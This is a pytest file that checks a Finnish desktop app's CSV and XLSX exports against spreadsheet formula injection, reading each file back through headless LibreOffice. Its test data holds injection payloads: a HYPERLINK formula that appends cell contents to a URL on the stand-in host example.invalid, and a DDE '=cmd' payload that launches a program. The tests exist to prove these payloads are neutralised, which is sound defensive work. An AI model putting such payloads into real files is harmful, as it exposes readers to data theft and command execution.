"""Spreadsheets are read by people: no cell of any CSV or XLSX the app writes may run as a formula
or change meaning, and no text may be cut (issue 13, items 1 and 2). Every file is read back by
headless LibreOffice, cell by cell."""

from __future__ import annotations

import csv
import shutil
import subprocess
import sys
from pathlib import Path

import openpyxl
import pytest
from exchange_support import REPO_ROOT

from desktop_app.domain.enums import FeedbackKind, Side
from desktop_app.exchange.scope import parse_scope
from desktop_app.exchange.spreadsheets import CELL_LIMIT, export_csv, export_xlsx, split_text
from desktop_app.services import Services

pytestmark = pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice puuttuu: "
                                "apt-get install --no-install-recommends libreoffice-calc-nogui")

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://example.invalid/?d="&A2;"Avaa")',
    "+358 40 123 4567 soittaa",
    "- kunta toivoo lisää rahoitusta",
    "@Kajaani: yhteinen kanta",
    "\t=1+1 sarkain alussa",
    "\r=1+1 rivinvaihto alussa",
    "=cmd|' /C calc'!A0",
]
CHANGES_MEANING = ["0401234567", "1.2.2026", "12,5 %", "1e5", "-5", "_x000D_ ei rivinvaihto"]
LONG_TEXT = ("Pitkä lausunto. " * 2600)[:40_000]           # the example
LONG_WIDE = ("Metsä 🌲 ja =kaava " * 6000)[:100_000]      # astral characters count twice in a cell


@pytest.fixture
def hostile_db(services: Services):
    """A database set up as the app does, with hostile text in every kind of text column."""
    round_ = services.rounds.plan_round(2026, title="=1+1 kierros")
    meeting = services.meetings.find(round_.id, "290")
    services.meetings.update_details(meeting.id, place="@Kajaani kaupungintalo",
                                     notes='=HYPERLINK("http://example.invalid/";"x")')
    services.participants.add(meeting.id, "=Maija Meikäläinen", Side.COUNCIL, organisation="+358 8 123",
                              title="-johtaja")
    services.sectors.add("ZZ", "=SUM(1;2) sektori", "@en")
    first = None
    for text in [*FORMULAS, *CHANGES_MEANING, LONG_TEXT, LONG_WIDE]:
        item = services.feedback.add(meeting.id, FeedbackKind.QUESTION, text)
        first = first or item
    services.followups.add(first.id, owner="@Kajaani omistaja", description="- kuvaus =1+1")
    return services.db


def _libreoffice_to_xlsx(files: list[Path], out: Path, *, csv_input: bool) -> None:
    command = ["soffice", "--headless", f"-env:UserInstallation=file://{out}/profile",
               "--convert-to", "xlsx", "--outdir", str(out)]
    if csv_input:  # ';' separated, '"' quoted, UTF-8, from line 1: what a user's LibreOffice does
        command.insert(2, "--infilter=CSV:59,34,76,1")
    result = subprocess.run([*command, *map(str, files)], capture_output=True, text=True,
                            timeout=300, check=False)
    assert result.returncode == 0, result.stderr


def _read_csv(path: Path) -> list[list[str]]:
    csv.field_size_limit(sys.maxsize)
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle, delimiter=";"))


def _assert_whole(header: list[str], rows: list[list[object]], strip: bool) -> list[str]:
    """Every row's text columns with their continuations joined; returns every cell's text."""
    texts: list[str] = []
    base = {name: index for index, name in enumerate(header) if " (jatkoa " not in name}
    for row in rows:
        for name, index in base.items():
            value = row[index]
            if not isinstance(value, str):
                continue
            parts = [value]
            n = 2
            while f"{name} (jatkoa {n})" in header:
                more = row[header.index(f"{name} (jatkoa {n})")]
                parts.append(more if isinstance(more, str) else "")
                n += 1
            joined = "".join(parts)
            texts.append(joined[1:] if strip and joined.startswith("'") else joined)
    return texts


def _check_libreoffice_book(path: Path, expected_texts: list[str], strip_apostrophe: bool) -> None:
    book = openpyxl.load_workbook(path)
    seen: list[str] = []
    for sheet in book.worksheets:
        rows = [list(row) for row in sheet.iter_rows(values_only=False)]
        header = [cell.value for cell in rows[0]]
        for row in rows[1:]:
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                assert not (isinstance(cell.value, str) and cell.value.startswith("=")) or \
                    cell.data_type == "s"
        seen += _assert_whole(header, [[c.value for c in row] for row in rows[1:]], strip_apostrophe)
    for text in expected_texts:
        assert text in seen, (path.name, text[:60], len(text))


def _expected(services: Services) -> list[str]:
    # LibreOffice keeps a lone CR inside a cell as LF.
    return [t.replace("\r", "\n") for t in [*FORMULAS, *CHANGES_MEANING, LONG_TEXT, LONG_WIDE,
                                             "=1+1 kierros", "@Kajaani kaupungintalo",
                                             "=Maija Meikäläinen", "+358 8 123", "-johtaja",
                                             "=SUM(1;2) sektori", "@Kajaani omistaja", "- kuvaus =1+1"]]


def test_csv_files_open_in_libreoffice_with_no_formula_and_no_text_cut(hostile_db, services, tmp_path):
    flat = export_csv(hostile_db, parse_scope("all"), tmp_path / "koonti.csv", flat=True)
    per_entity = export_csv(hostile_db, parse_scope("all"), tmp_path / "csv")
    files = [tmp_path / "koonti.csv", *per_entity.paths]
    _libreoffice_to_xlsx(files, tmp_path / "lo", csv_input=True)
    texts = _expected(services)
    flat_texts = [t for t in texts if t in (*FORMULAS, *CHANGES_MEANING, LONG_TEXT, LONG_WIDE)]
    _check_libreoffice_book(tmp_path / "lo" / "koonti.xlsx",
                            [t.replace("\r", "\n") for t in flat_texts], strip_apostrophe=True)
    seen_all = []
    for path in per_entity.paths:
        book = tmp_path / "lo" / f"{path.stem}.xlsx"
        _check_libreoffice_book(book, [], strip_apostrophe=True)
        sheet = openpyxl.load_workbook(book).worksheets[0]
        rows = [list(r) for r in sheet.iter_rows(values_only=True)]
        seen_all += _assert_whole(list(rows[0]), rows[1:], strip=True)
    for text in texts:
        assert text in seen_all, text[:60]
    for summary in (flat, per_entity):  # the split is said, with the rows
        assert any("jatkuu sarakkeissa" in notice for notice in summary.notices), summary.notices


def test_xlsx_opens_in_libreoffice_with_every_text_whole(hostile_db, services, tmp_path):
    summary = export_xlsx(hostile_db, parse_scope("all"), tmp_path / "kaikki.xlsx")
    _libreoffice_to_xlsx([tmp_path / "kaikki.xlsx"], tmp_path / "lo", csv_input=False)
    _check_libreoffice_book(tmp_path / "lo" / "kaikki.xlsx", _expected(services), strip_apostrophe=False)
    assert any("Palautekoonti" in n and "jatkuu sarakkeissa" in n for n in summary.notices)
    assert any(n.startswith("Palautteet") for n in summary.notices)


def test_cli_says_which_rows_continue_and_raw_writes_values_as_they_are(hostile_db, tmp_path):
    def cli(*args: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run([sys.executable, str(REPO_ROOT / "main.py"), "--db", str(hostile_db.path),
                               "export", *args], capture_output=True, text=True, timeout=300, check=False)

    shown = cli("--format", "xlsx", "--out", str(tmp_path / "k.xlsx"))
    assert shown.returncode == 0 and "Huom: Palautekoonti: 2 riviä" in shown.stdout, shown.stdout
    raw = cli("--format", "csv", "--flat", "--raw", "--out", str(tmp_path / "raw.csv"))
    assert raw.returncode == 0 and "Huom" not in raw.stdout
    rows = _read_csv(tmp_path / "raw.csv")
    texts = [row[rows[0].index("Palaute")] for row in rows[1:]]
    assert "=1+1" in texts and LONG_TEXT in texts and "Palaute (jatkoa 2)" not in rows[0]
    assert cli("--format", "xlsx", "--raw", "--out", str(tmp_path / "x.xlsx")).returncode == 1


@pytest.mark.parametrize(("value", "shown"), [
    ("=1+1", "'=1+1"), ("+358 40", "'+358 40"), ("0401234567", "'0401234567"), ("1.2.2026", "'1.2.2026"),
    ("2026", "2026"), ("205", "205"), ("Kajaani", "Kajaani"), ("a=b", "a=b"),
    ("12345678-1234-5123-8123-123456789012", "12345678-1234-5123-8123-123456789012"),
])
def test_safe_text_prefixes_only_what_a_spreadsheet_would_change(value: str, shown: str) -> None:
    from desktop_app.exchange.spreadsheets import safe_text

    assert safe_text(value) == shown


def test_split_text_keeps_pairs_and_avoids_formula_starts() -> None:
    text = "a" * (CELL_LIMIT - 1) + "🌲" + "=b" * 10
    pieces = split_text(text)
    assert "".join(pieces) == text and len(pieces) == 2
    assert all(len(p.encode("utf-16-le")) // 2 <= CELL_LIMIT for p in pieces)
    assert not pieces[1].startswith("=")
